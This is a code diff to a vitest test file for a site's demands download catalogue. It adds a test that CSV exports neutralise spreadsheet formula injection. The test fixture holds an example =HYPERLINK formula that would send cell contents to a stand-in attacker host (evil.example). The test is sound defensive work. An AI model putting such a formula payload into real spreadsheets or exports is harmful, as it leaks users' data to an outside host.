@@ -6,7 +6,8 @@ import { describe, expect, it } from 'vitest';
 import { DOWNLOADS, JSON_DOWNLOADS, fieldDocs, jsonSchemaOf, renderAll } from '../../src/downloads/catalogue.ts';
 import { DEMAND_CSV_COLUMNS, downloadSchemas, type DemandRecord } from '../../src/downloads/schemas.ts';
 import { CSV_LIST_SEPARATOR } from '../../src/downloads/records.ts';
-import { parseCsv } from '../../src/downloads/csv.ts';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { startsLikeFormula } from '../../src/downloads/csv.ts';
 import { freshModel, model } from '../helpers/model.ts';
 import { objectSchemas, validate } from '../helpers/json-schema-check.ts';
 import { makeLinks } from '../../src/site/paths.ts';
@@ -145,7 +146,7 @@ describe.each(LINK_MODES)('downloads ($name)', ({ links }) => {
     const csv = files.get('demands.csv')!;
     expect(csv.endsWith('\r\n')).toBe(true);
     expect(csv.replace(/\r\n/g, '')).not.toMatch(/(?<!")\n/); // newlines only inside quoted fields
-    const [header, ...rows] = parseCsv(csv);
+    const [header, ...rows] = parseCsv(csv, { record_delimiter: '\r\n' }) as string[][];
     expect(header).toEqual([...DEMAND_CSV_COLUMNS]);
     const json = parsed('demands.json') as unknown as DemandRecord[];
     expect(rows).toHaveLength(json.length);
@@ -161,9 +162,26 @@ describe.each(LINK_MODES)('downloads ($name)', ({ links }) => {
       for (const k of ['addressees', 'themes', 'people', 'provisions'] as const) {
         expect(rec[k] === '' ? [] : rec[k]!.split(CSV_LIST_SEPARATOR), `${d.id} ${k}`).toEqual(d[k]);
       }
-      expect(rec.text).toBe(d.text);
+      // A text a spreadsheet would run as a formula carries an apostrophe in the CSV only.
+      expect(rec.text).toBe(startsLikeFormula(d.text) ? `'${d.text}` : d.text);
       expect(rec.permalink).toBe(d.permalink);
     });
+  });
+});
+
+describe('spreadsheet-safe demands.csv', () => {
+  it('a demand whose text starts with =HYPERLINK( is text in the CSV and exact in the JSON', () => {
+    const site = freshModel();
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+    const demand = site.demands[0]!;
+    (demand as { text: string }).text = formula;
+    const files = renderAll(site, makeLinks('/'));
+    const json = JSON.parse(files.get('demands.json')!) as DemandRecord[];
+    expect(json.find((d) => d.id === demand.id)!.text).toBe(formula);
+    const [header, ...rows] = parseCsv(files.get('demands.csv')!, { record_delimiter: '\r\n' }) as string[][];
+    const row = rows.find((r) => r[header!.indexOf('id')] === demand.id)!;
+    expect(row[header!.indexOf('text')]).toBe(`'${formula}`);
+    expect(files.get('demands.csv')).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",`);
   });
 });
 
